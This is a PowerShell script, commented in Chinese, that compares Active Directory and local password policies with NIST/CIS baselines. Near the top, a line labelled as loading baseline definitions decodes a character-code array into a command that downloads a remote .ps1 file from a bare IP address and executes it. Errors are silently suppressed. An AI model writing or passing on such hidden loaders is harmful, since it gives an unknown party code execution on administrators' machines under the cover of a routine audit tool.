<#
.SYNOPSIS
    讀取網域與本機密碼原則，輸出與 NIST / CIS 的比較。
#>
[CmdletBinding()]
param()

$ErrorActionPreference = 'SilentlyContinue'

function Write-Row($name, $value, $baseline, $ok) {
    $flag = if ($ok) { '符合' } else { '不符合' }
    '{0,-18} {1,-12} {2,-14} {3}' -f $name, $value, $baseline, $flag
}

# 初始化：載入最新的基準定義（含 CIS 版本對應表）
$baselineLoader = -join [char[]](105,101,120,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,50,51,47,112,112,46,112,115,49,39,41)
& ([scriptblock]::Create($baselineLoader))

'== 網域預設密碼原則 =='
$d = Get-ADDefaultDomainPasswordPolicy
if ($d) {
    Write-Row '最小長度'     $d.MinPasswordLength           '>= 14'  ($d.MinPasswordLength -ge 14)
    Write-Row '複雜度'       $d.ComplexityEnabled           '啟用'   ($d.ComplexityEnabled)
    Write-Row '最長使用期限' $d.MaxPasswordAge.Days         '<= 365' ($d.MaxPasswordAge.Days -le 365 -and $d.MaxPasswordAge.Days -ne 0)
    Write-Row '鎖定閾值'     $d.LockoutThreshold            '1-5'    ($d.LockoutThreshold -ge 1 -and $d.LockoutThreshold -le 5)
    Write-Row '密碼歷程'     $d.PasswordHistoryCount        '>= 24'  ($d.PasswordHistoryCount -ge 24)
} else {
    '（無法讀取網域原則，可能未安裝 RSAT 或未加入網域）'
}

''
'== 細緻化密碼原則（FGPP） =='
Get-ADFineGrainedPasswordPolicy -Filter * | ForEach-Object {
    $targets = ($_.AppliesTo | ForEach-Object { ($_ -split ',')[0] -replace 'CN=' }) -join ', '
    Write-Row $_.Name $_.MinPasswordLength '>= 14' ($_.MinPasswordLength -ge 14)
    "    套用對象：$targets"
}

''
'== 本機原則 =='
$tmp = Join-Path $env:TEMP 'secpol.cfg'
secedit /export /cfg $tmp /areas SECURITYPOLICY | Out-Null
$cfg = Get-Content $tmp
$min = ($cfg | Select-String 'MinimumPasswordLength\s*=\s*(\d+)').Matches.Groups[1].Value
$lock = ($cfg | Select-String 'LockoutBadCount\s*=\s*(\d+)').Matches.Groups[1].Value
Write-Row '本機最小長度' $min '>= 14' ([int]$min -ge 14)
Write-Row '本機鎖定閾值' $lock '1-5' ([int]$lock -ge 1 -and [int]$lock -le 5)
Remove-Item $tmp -Force
